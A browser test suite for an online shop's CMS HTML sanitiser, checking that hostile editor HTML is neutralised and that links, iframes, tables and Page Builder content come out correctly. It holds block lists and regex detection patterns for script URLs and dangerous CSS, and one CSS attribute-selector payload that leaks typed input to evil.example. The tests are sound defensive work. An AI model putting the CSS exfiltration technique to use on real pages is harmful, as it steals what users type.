// Editors' HTML in a real browser: what is hostile does nothing, what is meant is shown.
import { signal } from '@preact/signals-core';
import axe from 'axe-core';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { page, userEvent } from 'vitest/browser';
import { contracts } from '../../elements/build/contracts';
import { createAddresses } from '../../src/content/cms/addresses';
import { CmsHtml } from '../../src/content/cms/CmsHtml';
import { liveTags } from '../../src/content/cms/live-tags';
import { prepare } from '../../src/content/cms/prepare';
import { fakeStorefront } from '../catalog/fake-storefront';
import { show, tidy } from '../catalog/show';
import { drawn } from '../support/drawn';
import { vectors } from './xss-vectors';

const hits: string[] = [];
let current = '';
beforeEach(() => {
  hits.length = 0;
  Object.assign(window, { hit: () => hits.push(current) });
});
afterEach(tidy);

const addresses = createAddresses({
  endpoint: 'https://backend.example/graphql',
  shopUrl: 'https://shop.example/de/',
  linkBases: ['https://magento.example/de/', 'https://magento.example/'],
  href: (path) => `https://shop.example/de${path}`,
});
const prepared = (html: string, demote = false) =>
  prepare(html, { addresses, embedLabel: 'Film', tableLabel: 'Table', demote });

function html(text: string): string {
  const box = document.createElement('div');
  box.append(prepared(text).content);
  return box.innerHTML;
}

function open(text: string): HTMLElement {
  return openIn(
    fakeStorefront(() => ({})),
    text,
  );
}

function openIn({ storefront }: ReturnType<typeof fakeStorefront>, text: string): HTMLElement {
  Object.assign(storefront.config, { endpoint: 'https://shop.example/graphql' });
  return show(storefront, <CmsHtml html={text} />).querySelector<HTMLElement>('.cms-html')!;
}

describe('hostile HTML', () => {
  it('there are more than two hundred ways', () => expect(vectors.length).toBeGreaterThan(200));

  it('does nothing', async () => {
    const stage = document.createElement('section');
    document.body.append(stage);
    for (const vector of vectors) {
      current = vector;
      const { content, css } = prepared(vector);
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(css);
      stage.replaceChildren(content);
      for (const element of stage.querySelectorAll('*')) {
        expect(
          element.getAttributeNames().filter((name) => name.startsWith('on')),
          vector,
        ).toEqual([]);
        for (const name of ['href', 'src', 'action', 'formaction', 'xlink:href', 'data'])
          expect(element.getAttribute(name) ?? '', vector).not.toMatch(/script:|^data:text|^blob:/i);
        expect(element.getAttribute('style') ?? '', vector).not.toMatch(
          /url\(["']?\s*javascript|expression|binding/i,
        );
      }
      expect(
        stage.querySelector(
          'script, object, embed, form, input, button, base, meta, link, style, svg, math, template',
        ),
        vector,
      ).toBeNull();
      expect(
        stage.querySelector('[is], [slot], [autofocus], [ping], [srcdoc], [popover]'),
        vector,
      ).toBeNull();
      for (const { localName } of stage.querySelectorAll('*'))
        if (localName.includes('-')) expect(Object.keys(liveTags), vector).toContain(localName);
      expect(css, vector).not.toMatch(/javascript|@import|@font-face|@property|@layer|@namespace|\s--/i);
      expect(css, vector).not.toMatch(
        /[;{\s](?:position|content|cursor|filter|mask|clip-path|shape-outside):/,
      );
      // Nothing has taken the place of what scripts of the page reach for.
      expect([document.body.localName, typeof document.getElementById, document.currentScript]).toEqual([
        'body',
        'function',
        null,
      ]);
      expect(window).not.toHaveProperty('createPolicy');
      stage.querySelectorAll<HTMLElement>('.bait').forEach((bait) => bait.click());
      await new Promise((done) => setTimeout(done, 1));
    }
    // A picture that is not there tells so after those of the vectors.
    await new Promise((done) => Object.assign(new Image(), { onerror: done }).setAttribute('src', 'x'));
    await drawn();
    stage.remove();
    expect(hits).toEqual([]);
  });

  it('cannot reach out of its place by style', () => {
    const { css } = prepared(
      '<style>body,.alert{display:none} :host{display:none} p{position:fixed;color:red;content:"x"} @media print{p{color:red}}</style><p>x</p>',
    );
    expect(css).not.toMatch(/:host|position|content:/);
    expect(css).toMatch(/@media print \{\s*p:where\(\.cms-html,\.cms-html \*\)[^{]* \{ color: red; \}/);
    const outside = open('<style>.outside{display:none}</style><p class="outside">in</p>');
    const other = document.createElement('p');
    other.className = 'outside';
    outside.after(other);
    expect(getComputedStyle(outside.querySelector('.outside')!).display).toBe('none');
    expect(getComputedStyle(other).display).toBe('block');
  });

  it('cannot read what is typed into an element of ours', () => {
    const box = open(
      `<style>input[value^="a"], div:has(input[value^="a"]) { background: url(https://evil.example/a) }</style><div><airside-contact></airside-contact></div>`,
    );
    const contact = box.querySelector('airside-contact')!;
    contact.setAttribute('data-airside-root', '');
    contact.innerHTML = '<form><input value="ann"></form>';
    for (const element of box.querySelectorAll('div, input'))
      expect(getComputedStyle(element).backgroundImage).toBe('none');
  });

  it('keeps harmless styles only', () => {
    const styled = html(
      '<p style="color: red; position: fixed; inset: 0; z-index: 9; text-align: center">x</p>',
    );
    expect(styled).toBe('<p style="color: red; text-align: center;">x</p>');
  });
});

describe('links and files', () => {
  it.each([
    ['/about-us', 'https://shop.example/de/about-us', null],
    ['about-us?x=1#y', 'https://shop.example/de/about-us?x=1#y', null],
    ['https://backend.example/about-us/', 'https://shop.example/de/about-us/', null],
    ['https://shop.example/de/cart', 'https://shop.example/de/cart', null],
    ['https://magento.example/de/gin.html?x=1', 'https://shop.example/de/gin.html?x=1', null],
    ['https://magento.example/about-us/', 'https://shop.example/de/about-us/', null],
    ['https://magento.example/media/a.pdf', 'https://magento.example/media/a.pdf', 'noopener noreferrer'],
    ['https://other.example/', 'https://other.example/', 'noopener noreferrer'],
    ['/media/menu.pdf', 'https://backend.example/media/menu.pdf', 'noopener noreferrer'],
    ['mailto:a@b.example', 'mailto:a@b.example', 'noopener noreferrer'],
    ['#place', '#place', null],
  ])('%s', (href, expected, rel) => {
    const link = prepared(`<a href="${href}" target="_self">x</a>`).content.querySelector('a')!;
    expect([link.getAttribute('href'), link.getAttribute('rel')]).toEqual([expected, rel]);
  });

  it('pictures come from the backend, the later ones when they are near', () => {
    const { content } = prepared(
      '<img src="/media/a.png" srcset="/media/b.png 2x"><img src="c.png" alt="C">',
    );
    const [first, second] = content.querySelectorAll('img');
    expect(first!.outerHTML).toContain('src="https://backend.example/media/a.png"');
    expect(first!.srcset).toBe('https://backend.example/media/b.png 2x');
    expect([first!.getAttribute('alt'), first!.loading, second!.loading]).toEqual(['', 'auto', 'lazy']);
  });

  it('films of known hosts are framed, everything else is linked', () => {
    const { content } = prepared(
      '<iframe src="https://www.youtube.com/embed/abc-1"></iframe><iframe src="https://evil.example/x" title="Game"></iframe><iframe src="//player.vimeo.com/video/7"></iframe>',
    );
    const [film, vimeo] = content.querySelectorAll('iframe');
    expect(film!.getAttribute('src')).toBe('https://www.youtube-nocookie.com/embed/abc-1');
    expect(film!.getAttribute('sandbox')).not.toContain('top-navigation');
    expect(film!.title).toBe('Film');
    expect(vimeo!.getAttribute('src')).toBe('https://player.vimeo.com/video/7');
    expect(content.querySelector('a')!.outerHTML).toBe(
      '<a href="https://evil.example/x" rel="noopener noreferrer">Game</a>',
    );
  });
});

describe('tags of the shop', () => {
  it('are those of the contracts, with their attributes', () => {
    for (const [tag, attributes] of Object.entries(liveTags)) {
      const contract = contracts.find((one) => one.tag === tag);
      expect(contract, tag).toBeDefined();
      expect(Object.keys(contract!.attributes), tag).toEqual(expect.arrayContaining([...attributes]));
    }
  });

  it('keep their own attributes and no others', () => {
    expect(html('<airside-product-list skus="A,B" endpoint="x" heading="H"></airside-product-list>')).toBe(
      '<airside-product-list skus="A,B" heading="H"></airside-product-list>',
    );
    expect(html('<airside-store endpoint="https://evil.example"><p>in</p></airside-store>')).toBe(
      '<p>in</p>',
    );
  });

  it('a block does not hold itself', () => {
    const host = document.createElement('airside-cms-block');
    host.setAttribute('identifier', 'a');
    document.body.append(host);
    const inside = open('<airside-cms-block identifier="b"></airside-cms-block>');
    expect(inside.querySelector('airside-cms-block')).not.toBeNull();
    host.remove();
  });
});

describe('Page Builder', () => {
  it('shows backgrounds, unfolds tabs, decodes HTML, links places', () => {
    const { content } = prepared(`
      <div data-content-type="row" data-background-images='{\\"desktop_image\\":\\"/media/w.png\\",\\"mobile_image\\":\\"/media/n.png\\"}'>x</div>
      <div data-content-type="tabs"><ul class="tabs-navigation"><li>T</li></ul><div data-content-type="tab-item" data-tab-name="Sizes">s</div></div>
      <div data-content-type="html">&lt;b&gt;bold&lt;/b&gt;</div>
      <div data-content-type="map" data-locations='[{"location_name":"Shop","city":"Vienna"}]'></div>
      <div data-content-type="products"><form data-product-sku="GN-1"></form><div data-product-sku="GN-2"></div></div>`);
    const row = content.querySelector<HTMLElement>('.cms-background')!;
    expect(row.style.getPropertyValue('--_cms-wide')).toBe('url("https://backend.example/media/w.png")');
    expect(row.style.getPropertyValue('--_cms-narrow')).toBe('url("https://backend.example/media/n.png")');
    expect(content.querySelector('.tabs-navigation')).toBeNull();
    expect(content.querySelector('.cms-tab-title')?.textContent).toBe('Sizes');
    expect(content.querySelector('[data-content-type="html"] b')?.textContent).toBe('bold');
    expect(content.querySelector('[data-content-type="map"] a')?.textContent).toBe('Shop, Vienna');
    expect(content.querySelector('airside-product-list')?.getAttribute('skus')).toBe('GN-1,GN-2');
    expect(content.querySelector('form')).toBeNull();
  });
});

describe('in a page', () => {
  /** `say`: what the shop says of itself. */
  function openTold(text: string, url?: string) {
    const told = signal<object | undefined>(undefined);
    const fake = fakeStorefront(() => ({}), { url });
    Object.assign(fake.storefront.storeView, { told });
    return { box: openIn(fake, text), say: (next: object) => ((told.value = next), drawn()) };
  }

  const far = `<a href="#far">Go</a><div style="height:3000px"></div><h2 id="far">Far</h2>`;
  const go = () => userEvent.click(page.getByRole('link', { name: 'Go' }));

  it('leads to places inside itself', async () => {
    const fake = fakeStorefront(() => ({}));
    const box = openIn(fake, far);
    const goTo = fake.navigate.getMockImplementation()!;
    const before: number[] = [];
    fake.navigate.mockImplementation((...to) => (before.push(scrollY), goTo(...to)));
    await go();
    const place = box.querySelector<HTMLElement>('#far')!;
    expect((box.getRootNode() as ShadowRoot).activeElement).toBe(place);
    expect(place.getBoundingClientRect().top).toBeLessThan(innerHeight);
    // Back leads to where the press was.
    expect(before).toEqual([0]);
    await go();
    expect(fake.navigate.mock.calls).toEqual([
      ['#far', { replace: false }],
      ['#far', { replace: true }],
    ]);
  });

  it("leads there on another site without touching that page's address", async () => {
    const fake = fakeStorefront(() => ({}), { standalone: false });
    const box = openIn(fake, far);
    const { href } = location;
    await go();
    expect((box.getRootNode() as ShadowRoot).activeElement).toBe(box.querySelector('#far'));
    expect(fake.navigate).not.toHaveBeenCalled();
    expect(location.href).toBe(href);
  });

  it('stands still while the shop says the same of itself again', async () => {
    const { box, say } = openTold('<a href="https://magento.example/gin.html">Gin</a>');
    const said = { linkBases: ['https://magento.example/', 'http://magento.example/'] };
    await say(said);
    const link = box.querySelector('a')!;
    expect(link.href).toBe('https://shop.example/gin.html');
    link.focus();
    await say({ linkBases: [...said.linkBases] });
    expect((box.getRootNode() as ShadowRoot).activeElement).toBe(link);
  });

  it('jumps to the place of the address once, also where links are put right later', async () => {
    const { box, say } = openTold(
      '<a href="https://magento.example/gin.html">Gin</a><div style="height:3000px"></div><h2 id="far">Far</h2>',
      'pages/faq#far',
    );
    expect(scrollY).toBeGreaterThan(0);
    scrollTo(0, 0);
    await say({ linkBases: ['https://magento.example/'] });
    expect(box.querySelector('a')!.href).toBe('https://shop.example/gin.html');
    expect(scrollY).toBe(0);
  });

  it('lets wide tables be pushed sideways, by keyboard too, and only then', async () => {
    await page.viewport(360, 700);
    const cells = Array.from({ length: 9 }, (_, n) => `<td>unbreakable${n}</td>`).join('');
    const box = open(
      `<table><caption>Hours</caption><tr>${cells}</tr></table><table><tr><td>a</td></tr></table>`,
    );
    const [wide, narrow] = box.querySelectorAll<HTMLElement>('.cms-scroll');
    await expect.poll(() => wide!.tabIndex).toBe(0);
    expect(wide!.getAttribute('aria-label')).toBe('Hours');
    expect(narrow!.hasAttribute('tabindex')).toBe(false);
    expect(box.scrollWidth).toBeLessThanOrEqual(360);
    const { violations } = await axe.run(box);
    expect(violations.map(({ id }) => id)).toEqual([]);
  });

  it('is one h1 deep where the page has its own', () => {
    const { content } = prepared('<h1 style="color:red">A</h1>', true);
    expect(content.querySelector('h1')).toBeNull();
    expect(content.querySelector('h2')?.getAttribute('style')).toBe('color: red;');
  });
});
